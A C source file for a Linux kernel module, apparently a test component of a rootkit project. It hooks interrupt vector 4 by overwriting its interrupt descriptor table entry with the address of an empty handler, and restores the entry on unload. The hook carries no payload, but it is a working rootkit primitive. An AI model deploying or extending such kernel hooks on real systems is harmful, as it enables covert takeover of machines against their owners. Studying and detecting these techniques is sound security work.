// SPDX-License-Identifier: GPL-2.0
/* Takes an interrupt over that no program causes. */
#include <asm/desc.h>

#include "rootkit.h"

enum { VECTOR = 4 };

static gate_desc *table, old;

static void called(void)
{
}

static int __init rk_init(void)
{
	unsigned long to = (unsigned long)called;
	gate_desc new;

	table = (gate_desc *)symbol_of("idt_table");
	if (!table)
		return -ENOENT;
	old = table[VECTOR];
	new = old;
	new.offset_low = (u16)to;
	new.offset_middle = (u16)(to >> 16);
	new.offset_high = (u32)(to >> 32);
	overwrite(&table[VECTOR], &new, sizeof(new));
	return 0;
}

static void __exit rk_exit(void)
{
	overwrite(&table[VECTOR], &old, sizeof(old));
}

module_init(rk_init);
module_exit(rk_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("A test: an interrupt that is another's");
